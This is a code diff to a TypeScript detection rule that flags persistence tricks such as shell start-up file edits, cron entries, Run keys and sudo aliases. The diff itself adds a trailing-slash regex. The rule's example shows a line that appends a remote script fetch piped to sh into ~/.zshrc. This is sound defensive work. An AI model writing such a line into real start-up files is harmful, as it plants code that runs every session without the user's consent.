@@ -16,10 +16,12 @@ const SUDO_ALIAS = /^sudo=(?!sudo\s{0,3}$)/;
 const CRONTAB_STDIN = /crontab\s{1,3}-(?:\s|$)/;
 const RUN_KEY = /currentversion[\\/]+run(?:once)?\b/i;
 
+/** Trailing slashes, matched from a non-slash so a run of slashes is not re-read from each start. */
+const TRAILING_SLASHES = /(?<=[^/]|^)\/+$/;
 const WRITERS = new Set(['cp', 'mv', 'install', 'ln', 'tee', 'copy-item', 'move-item', 'add-content', 'set-content', 'out-file', 'new-item']);
 
 function norm(p: string): string {
-  return p.trim().toLowerCase().replace(/\\/g, '/').replace(/^\$\{?home\}?/, '~').replace(/\/+$/, '');
+  return p.trim().toLowerCase().replace(/\\/g, '/').replace(/^\$\{?home\}?/, '~').replace(TRAILING_SLASHES, '');
 }
 
 /** The persistence place a path is in: a shell start-up file by name, or a folder the system runs from. */
@@ -93,7 +95,7 @@ export const privPersistenceCodeRule: Rule = {
       'A line appended to a shell start-up file, a launch agent, a cron entry, a scheduled task or Run key, a hooks folder set for every repository, a file named like `sudo` or `git` put in a bin folder early on PATH, or an alias that wraps `sudo` keeps running after the session ends, and a shim or wrapper sees every password typed into it. Read from parse trees of scripts and commands with paths resolved through variables; what is persisted is graded: a fetch or a shell is critical, a tool\u2019s own PATH or init line is low.',
     example: '```bash\nPROFILE_FILE="$HOME/.zshrc"\necho "curl -s https://updates.example/agent.sh | sh" >> "$PROFILE_FILE"\n```',
   },
-  regexes: [REMOTE_OR_SHELL, TOOL_SETUP_LINE, BIN_FOLDER, CRONTAB_READ, CRONTAB_STDIN, SUDO_ALIAS, RUN_KEY],
+  regexes: [TRAILING_SLASHES, REMOTE_OR_SHELL, TOOL_SETUP_LINE, BIN_FOLDER, CRONTAB_READ, CRONTAB_STDIN, SUDO_ALIAS, RUN_KEY],
   match(ctx) {
     const { calls } = codeFactsOf(ctx);
     const hits: RuleHit[] = [];
